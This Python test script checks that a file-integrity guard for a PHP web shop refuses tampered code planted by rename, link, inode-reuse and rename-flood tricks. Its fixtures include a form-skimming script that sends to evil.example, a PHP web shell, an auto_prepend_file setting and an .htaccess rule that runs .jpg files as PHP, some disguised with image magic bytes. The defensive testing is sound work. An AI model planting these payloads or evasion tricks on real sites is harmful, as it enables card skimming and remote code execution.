#!/usr/bin/env python3
"""What was judged under a harmless name and is then moved onto code: each open is judged by the
name under which the file stands then. And the other way round: a new file that was given the
inode of one that was taken away is not mistaken for it."""
import ctypes
import fcntl
import json
import os
import shutil
import signal
import struct
import time

from held import EVIL, FILES, GOOD, PAY, Held, end, ok, ok_closed, put, quiet, skip, wait_for
from tamper import rename_over, rename_over_keep_open

ROUNDS = 12
SCRIPT = "var shop = 1; document.forms[0].action = 'https://evil.example/'; // EVIL\n"
INI = "; EVIL\nauto_prepend_file=/tmp/evil.php\n"


def read(path):
    with open(path, "rb") as f:
        return f.read().decode(errors="replace")


def moved_onto(s, source, rel, text):
    """Put down, read once as anyone may, moved, and read at once under its new name."""
    put(s, source, text)
    try:
        first = read(s.path(source)) == text
    except OSError:
        first = False  # a program among uploads
    os.rename(s.path(source), s.path(rel))
    try:
        return first, read(s.path(rel))
    except OSError as e:
        return first, e


def disguised(s, source, rel, text, want, first=True):
    """`want`: the approved content, or None where nothing may be read."""
    seen = []
    for i in range(ROUNDS):
        moved = s.intruder(moved_onto, source % i, rel, "%s// %d\n" % (text, i))
        if not isinstance(moved, tuple):
            if not isinstance(moved, FileNotFoundError):  # it was taken away from among the uploads
                seen.append(moved)
            continue
        if moved[0] != first or (moved[1] != want if want is not None else not isinstance(moved[1], OSError)):
            seen.append(moved)
        if want is not None:
            s.healed(rel)
        else:
            wait_for(lambda: not os.path.exists(s.path(rel)), 10)
    ok(not seen, "%s moved onto %s: read by nobody" % (source % 0, rel),
       "%s\n%s" % (seen[:3], "\n".join(json.dumps(f)[:400] for f in s.log("--path", rel)[-12:])))


def linked(s, source, rel, text, want):
    """A link where code belongs, to a file that anyone may write."""
    def act(s, i):
        target = source % i
        put(s, target, "%s// %d\n" % (text, i))
        try:
            read(s.path(target))
        except OSError:
            pass
        os.symlink("../" * rel.count("/") + target, s.path("uploads/%d.l" % i))
        os.rename(s.path("uploads/%d.l" % i), s.path(rel))
        try:
            return read(s.path(rel))
        except OSError as e:
            return e
    seen = []
    for i in range(ROUNDS):
        got = s.intruder(act, i)
        if got != want and not isinstance(got, OSError):
            seen.append(got)
        s.healed(rel)
    ok(not seen, "a link from %s to %s: read by nobody" % (rel, source % 0),
       "%d of %d\n%s" % (len(seen), ROUNDS, seen[:2]))


def dangling(s, i):
    """A link to nothing, whose target is made once the link stands, and made anew thereafter."""
    target = "uploads/late%d.txt" % i
    os.symlink("../" + target, s.path("uploads/%d.l" % i))
    os.rename(s.path("uploads/%d.l" % i), s.path("static/shop.js"))
    seen = []
    for n in range(2):
        put(s, target, "%s// %d %d\n" % (SCRIPT, i, n))
        try:
            seen.append(read(s.path("static/shop.js")))
        except OSError as e:
            seen.append(e)
        os.unlink(s.path(target))
    return seen


def folder(s, i):
    """What an intruder prepares; a folder of some milliseconds' age is not held yet (SECURITY.md)."""
    os.makedirs(s.path("uploads/%d/static" % i))
    put(s, "uploads/%d/static/shop.js" % i, SCRIPT)


def swapped(s, i):
    """A link in place of a folder of code, to one of uploads of the same name."""
    os.symlink(s.path("uploads/%d/static" % i), s.path("uploads/%d.f" % i))
    os.rename(s.path("static"), s.path("uploads/static%d" % i))
    os.rename(s.path("uploads/%d.f" % i), s.path("static"))
    try:
        return [read(s.path("static/shop.js"))]
    except OSError as e:
        return [e]


def by_links(s, act, what, before=None):
    seen = []
    for i in range(ROUNDS):
        if before:
            s.intruder(before, i)
            quiet(0.1)
        got = s.intruder(act, i)
        # It may find what it wants to alter as the hand just put it.
        seen += [x for x in (got if isinstance(got, list) else [])
                 if x != FILES["static/shop.js"] and not isinstance(x, OSError)]
        if not s.healed("static/shop.js"):
            seen.append("not healed")
    ok(not seen, "%s: read by nobody" % what, seen[:3])


MANY, TOO_MANY = 400, 9000  # more than GATE_MAX_GUISES; twice that is more than the kernel's queue holds
STOPPED_S = 1.5  # the keeper ends a gate that is silent for 2.5 s


def prepares(s, i):
    """Outside of the shop, and of its filesystem's roots nothing is said of it."""
    folder = os.path.join(s.base, "prepared")
    os.makedirs(folder, exist_ok=True)
    os.chmod(folder, 0o777)

    def act(s):
        for name in ("file", "other"):
            with open(os.path.join(folder, name), "w") as f:
                f.write("var shop = 'not yours, %s %d';\n" % (name, i))
        os.symlink(s.path("uploads/led"), os.path.join(folder, "link"))
        put(s, "uploads/led", "var shop = 'not yours, led to %d';\n" % i)
    s.intruder(act)
    return folder


def floods(s, folder, times):
    """Takes it away again, and moves more through paths of code than is remembered."""
    until = time.monotonic() + STOPPED_S
    os.rename(s.path("static/shop.js"), s.path("uploads/gone%d" % time.monotonic_ns()))
    for n in range(times):
        if time.monotonic() > until:
            break
        os.rename(os.path.join(folder, "other"), s.path("static/g%d.js" % n))
        os.rename(s.path("static/g%d.js" % n), os.path.join(folder, "other"))


def in_a_flood(s, name, times, what):
    """While the gate can't look: what was opened in code's place stands elsewhere when it can."""
    seen = []
    for i in range(3):
        folder = prepares(s, i)
        s.customer("static/shop.js")
        gate = s.pids("gate")[0]
        ours, theirs = os.pipe()
        os.kill(gate, signal.SIGSTOP)  # no open is decided now
        try:
            moved = s.intruder(lambda s: os.rename(os.path.join(folder, name), s.path("static/shop.js")))
            if os.fork() == 0:
                got = s.customer("static/shop.js")
                os.write(theirs, b"refused" if isinstance(got, OSError) else got.encode())
                os._exit(0)
            quiet(0.2)
            gone = s.intruder(floods, folder, times)
        finally:
            os.kill(gate, signal.SIGCONT)
        got = os.read(ours, 4096).decode()
        os.wait()
        os.close(ours)
        os.close(theirs)
        if moved or gone or got not in (FILES["static/shop.js"], "refused"):
            seen.append((moved, gone, got))
        if not s.healed("static/shop.js"):
            seen.append("not healed")
        shutil.rmtree(folder)
    ok(not seen, "%s, and taken away in a flood of %d: read by nobody" % (what, times), seen)


def guards(s):
    """Settings of Apache's that only forbid: shops and plug-ins lay such among uploads, and without them to read Apache
    answers nothing there."""
    for text in ("Options -Indexes\n", "<FilesMatch \"\\.php$\">\nRequire all denied\n</FilesMatch>\n"):
        s.intruder(put, "uploads/.htaccess", text)
        read = s.customer("uploads/.htaccess")
        ok(read == text, "settings among uploads that only forbid are read", read)
    s.settle()
    found = [f for f in s.facts("finding") if f["path"] == "uploads/.htaccess"]
    ok(not found, "and are no finding", found)
    s.intruder(put, "uploads/.htaccess", "Options -Indexes\nAddType application/x-httpd-php .jpg\n")
    read = s.customer("uploads/.htaccess")
    ok(isinstance(read, OSError), "not so what does anything besides", read)
    ok(wait_for(lambda: not os.path.exists(s.path("uploads/.htaccess")), 10), "which is taken away")


def of_another_generation(s):
    """While the gate can't look a folder is exchanged for one from outside, and the shop's own is given another
    generation (its owner may, on ext4): what was told of it before opens by its handle no more."""
    folder = os.path.join(s.base, "generation")
    libc, what = ctypes.CDLL(None, use_errno=True), "a folder exchanged in one of another generation: read by nobody"

    def prepare(s, i):
        os.mkdir(os.path.join(folder, str(i)))
        with open(os.path.join(folder, str(i), "shop.js"), "w") as f:
            f.write(SCRIPT)

    def act(s, i):
        fd = os.open(s.dir, os.O_RDONLY)
        if libc.renameat2(-100, os.fsencode(os.path.join(folder, str(i))), -100, os.fsencode(s.path("static")), 2):
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        fcntl.ioctl(fd, 0x40086604, struct.pack("<Q", 1000 + i))  # FS_IOC_SETVERSION
        os.close(fd)

    def reader(s):
        seen, until = [], time.monotonic() + 3
        while time.monotonic() < until:
            try:
                seen.append(read(s.path("static/shop.js")))
            except OSError:
                pass
        return [x for x in seen if x != FILES["static/shop.js"]]

    os.mkdir(folder)
    os.chmod(folder, 0o777)
    seen = []
    for i in range(3):
        s.intruder(prepare, i)
        quiet()
        gate = s.pids("gate")[0]
        os.kill(gate, signal.SIGSTOP)
        try:
            failed = s.intruder(act, i)
            quiet(0.1)
        finally:
            os.kill(gate, signal.SIGCONT)
        if failed:
            skip(what, "this filesystem changes none: %s" % failed)
            s.healed("static/shop.js")
            return
        seen += s.intruder(reader)
        if not s.healed("static/shop.js"):
            seen.append("not healed")
    ok(not seen, what, "%d: %s" % (len(seen), seen[:2]))


def held_link(s):
    """In mode hold nothing is put back: the link stands, and stays refused."""
    s.run("mode", "hold", "--reason", "a test")
    ok(s.intruder(lambda s: (put(s, "uploads/h.txt", SCRIPT), os.unlink(s.path("static/shop.js")),
                             os.symlink("../uploads/h.txt", s.path("static/shop.js")))[-1]) is None, "mode hold: a link is made")
    seen = []
    for _ in range(40):
        seen.append(s.customer("static/shop.js"))
        quiet(0.15)
    ok(all(isinstance(x, PermissionError) for x in seen), "whoever comes by it is refused, after seconds, too",
       [x for x in seen if not isinstance(x, PermissionError)][:3])
    ok(isinstance(s.customer("uploads/h.txt"), PermissionError), "by its own name, too: PHP follows links by itself")
    ok(s.customer("uploads/hat.jpg") == FILES["uploads/hat.jpg"], "another upload is what it is")
    s.run("mode", "heal", "--reason", "a test")
    ok(s.healed("static/shop.js"), "mode heal: it is put back")


def approved_under_another_name(s):
    """A hard link of approved code, moved onto other code: approved, but not there."""
    def act(s):
        os.link(s.path("lib/a.php"), s.path("uploads/a.txt"))
        os.rename(s.path("uploads/a.txt"), s.path(PAY))
    s.customer("lib/a.php")
    s.intruder(act)
    ok(s.healed(), "approved code moved onto other code: what belongs there is put back")
    ok(s.customer("lib/a.php") == FILES["lib/a.php"], "and stays where it was")

    def at_once(s):
        act(s)
        try:
            return read(s.path(PAY))
        except OSError as e:
            return e
    seen = []
    for _ in range(ROUNDS):
        got = s.intruder(at_once)
        if got != GOOD and not isinstance(got, PermissionError):
            seen.append(got)
        s.healed()
        there = s.customer("lib/a.php")
        if there != FILES["lib/a.php"]:
            seen.append(("lib/a.php", there, [json.dumps(f)[:300] for f in s.log("--path", "lib/a.php")[-3:]]))
    # The kernel tells of a rename when it is done: the first open can be faster.
    ok(all(x == FILES["lib/a.php"] for x in seen), "nothing but approved code is read meanwhile (%d times that of "
       "the other name)" % len(seen), seen)


def same_inode(s):
    """On ext4 the next file gets the number that was freed last."""
    def one(s, i):
        put(s, "uploads/t.txt", EVIL)
        number = os.stat(s.path("uploads/t.txt")).st_ino
        os.rename(s.path("uploads/t.txt"), s.path(PAY))
        return number
    met = 0
    wrong = []
    for i in range(ROUNDS):
        number = s.intruder(one, i)
        s.healed()
        quiet(0.05)
        page = "<?php // page %d ?>" % i
        made = s.intruder(compiled, i, page)
        met += number in made
        wrong += [n for n in range(8) if s.customer("cache/%d-%d.php" % (i, n)) != page]
    ok(not wrong, "%d of %d times a compiled page had the inode of altered code: it stays what it is" % (met, ROUNDS),
       wrong)


def after_a_deploy(s):
    """What a release wrote last is told a little later: no time of grace for anybody else."""
    seen = []
    for i in range(ROUNDS):
        if i % 4 == 0:
            s.run("deploy", "--", "true", cwd=s.dir)
        s.intruder([rename_over, rename_over_keep_open, twice][i % 3])
        seen += [x for x in [s.customer()] if x != GOOD]
        s.healed()
    ok_closed(s, not seen, "just after a deploy others' changes are healed as ever", seen[:3])
    late = s.log("--type", "open.late")
    ok(not late, "and no open waits for its end", late[:3])


def twice(s):
    put(s, "uploads/w.txt", "")
    os.link(s.path("uploads/w.txt"), s.path("uploads/w2.txt"))
    os.rename(s.path("uploads/w2.txt"), s.path(PAY))
    put(s, "uploads/w.txt", EVIL)


def compiled(s, i, page):
    """As a shop's template cache does it."""
    made = []
    for n in range(8):
        put(s, "cache/%d-%d.new" % (i, n), page)
        os.rename(s.path("cache/%d-%d.new" % (i, n)), s.path("cache/%d-%d.php" % (i, n)))
        made.append(os.stat(s.path("cache/%d-%d.php" % (i, n))).st_ino)
    return made


def put_bytes(s, rel, content, size=None):
    """Made beside, then moved: nobody sees it half written."""
    with open(s.path("uploads/new"), "wb") as f:
        f.write(content)
        f.truncate(size or len(content))
    os.rename(s.path("uploads/new"), s.path(rel))


def new(s, rel, content, size=None):
    put_bytes(s, rel, content, size)
    try:
        with open(s.path(rel), "rb") as f:
            return f.read(16)
    except OSError as e:
        return e


def refused_new(s, what, files):
    """`files`: path, content and, where it goes on with zeros, size."""
    wrong = []
    for rel, *content in files:
        got = s.intruder(new, rel, *content)
        if not isinstance(got, OSError) or not wait_for(lambda: not os.path.lexists(s.path(rel)), 10):
            wrong.append((rel, content[0][:16], got))
    ok(not wrong, "%s: refused, and taken away (%d)" % (what, len(files)), wrong)


MAGICS = [b"\xff\xd8\xff\xe0=1\n", b"\x89PNG\r\n\x1a\n=1\n", b"GIF89a=1;\n", b"%PDF-1.4=1\n", b"PK\3\4=1\n",
          b"BZh=1;\n", b"\x1f\x8b=1\n", b"wOFF=1\n", b"SQLite format 3\0\n", b";\0\n"]
BY_NAME = {".user.ini": INI.encode(), "lib/.htaccess": b"AddType application/x-httpd-php .jpg\n",
           "static/x.js": SCRIPT.encode(), "lib/x.php": b"<?=`id`;", "uploads/x.php": b"<?=`id`;", "lib/x.phtml": b"<?=`id`;"}
PICTURE = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
LARGE = "lib/large.bin"
LOOKED_AT = 8 << 20


def named(s):
    """What PHP, the web server or a browser obeys by its name, though it looks like something else."""
    refused_new(s, "settings and programs in the guise of pictures and archives",
                [(rel, magic + text) for rel, text in BY_NAME.items() for magic in MAGICS])
    refused_new(s, "settings and programs with a NUL behind", [(rel, text + b"\n\0") for rel, text in BY_NAME.items()])
    for rel in ("static/new.gif", "uploads/new.gif", "static/new.zip"):
        content = b"PK\3\4 <?=" if rel.endswith("zip") else PICTURE
        s.intruder(put_bytes, rel, content)
        quiet()
        ok(s.customer(rel) == content.decode(errors="replace"), "%s: what is one is served" % rel, s.customer(rel))


def versions(s):
    """A folder that is called as those of version control are, whose content is data."""
    for folder in ("lib/.git", "lib/.svn"):
        s.intruder(lambda s: os.mkdir(s.path(folder)))
        quiet()
        refused_new(s, "programs and settings in a folder " + folder, [
            (os.path.join(folder, name), text) for name, text in
            (("x.php", b"<?=`id`;"), ("x.phtml", b"<?=`id`;"), ("x.php.", b"<?=`id`;"), (".user.ini", INI.encode()))])
        other = os.path.join(folder, "HEAD")
        s.intruder(put_bytes, other, b"ref: refs/heads/main\n")
        ok(s.customer(other) == "ref: refs/heads/main\n", "%s: what is no program is read" % other)


def data(s):
    """What his folders of data hold is data; but a program there is what it is."""
    shell, log = "<?php system($_GET['c']); // EVIL\n", "<?php exit; ?>\nERROR no such page\n"
    s.intruder(lambda s: [os.mkdir(s.path(d)) for d in ("logs", "session")])
    quiet()
    for rel in ("logs/x.php", "session/x.phtml", "lib/sess_x.php"):
        s.intruder(put_bytes, rel, shell.encode())
        ok(wait_for(lambda: not os.path.exists(s.path(rel)), 10), "a program among data, %s: taken away" % rel)
    for rel in ("logs/x.log", "logs/log-1.php"):
        s.intruder(put_bytes, rel, log.encode())
        quiet(2)
        ok(s.customer(rel) == log, "a log, %s: read" % rel)


def large(s):
    """More than is looked at: what is approved is known by its hash, what is new passes for a program."""
    before = FILES_LARGE[LARGE]
    ok(s.customer(LARGE) == before, "an approved file of %d bytes is read" % len(before))
    refused_new(s, "new files that are too large to be looked at whole",
                [(rel, b"<?php // EVIL\n", LOOKED_AT + 1) for rel in
                 ("lib/x.php", "lib/x.inc", "lib/noext", "lib/x.tpl", "static/x.js", ".user.ini", "lib/.htaccess")] +
                [("lib/x.php", b"<?php // EVIL\n", LOOKED_AT + 1)] * 2 +
                [("lib/x.php", b"<?php // EVIL\n", 1 << 30)])
    s.intruder(put_bytes, "static/large.gif", PICTURE, LOOKED_AT + 1)
    quiet()
    ok(len(s.customer("static/large.gif")) > LOOKED_AT, "a large picture is served")
    s.intruder(put_bytes, LARGE, b"EVIL", len(before))
    got = s.customer(LARGE)
    ok(got == before or isinstance(got, OSError), "the approved one altered: read by nobody", repr(got)[:80])
    ok(s.healed(LARGE, before), "and put back")
    ok(s.customer(LARGE) == before, "and read as before")


FILES_LARGE = {LARGE: "x" * ((9 << 20) + 1)}
s = Held({**FILES, **FILES_LARGE, "data/cache/keep.txt": "x", "cache/keep.txt": "x"}).open()
disguised(s, "uploads/%d.txt", "static/shop.js", SCRIPT, FILES["static/shop.js"])
disguised(s, "uploads/%d.jpg", PAY, EVIL.replace("<?php", "\xff\xd8\xff\xe0 <?php"), GOOD, False)
disguised(s, "data/cache/%d.php", PAY, EVIL, GOOD)
disguised(s, "uploads/%d.txt", ".user.ini", INI, None)
disguised(s, "cache/%d.php", "static/shop.js", SCRIPT, FILES["static/shop.js"])
linked(s, "uploads/l%d.php", PAY, EVIL, GOOD)
linked(s, "uploads/l%d.txt", "static/shop.js", SCRIPT, FILES["static/shop.js"])
linked(s, "data/cache/l%d.php", PAY, EVIL, GOOD)
linked(s, "cache/l%d.php", PAY, EVIL, GOOD)
by_links(s, dangling, "a link whose target is made later")
by_links(s, swapped, "a link in place of a folder", folder)
in_a_flood(s, "file", MANY, "what was opened in code's place")
in_a_flood(s, "file", TOO_MANY, "the same")
in_a_flood(s, "link", MANY, "what a link of code led to")
of_another_generation(s)
held_link(s)
approved_under_another_name(s)
same_inode(s)
after_a_deploy(s)
named(s)
versions(s)
data(s)
guards(s)
large(s)
ok(s.customer() == GOOD, "customers read approved code")
s.stop()
s.done()
end()
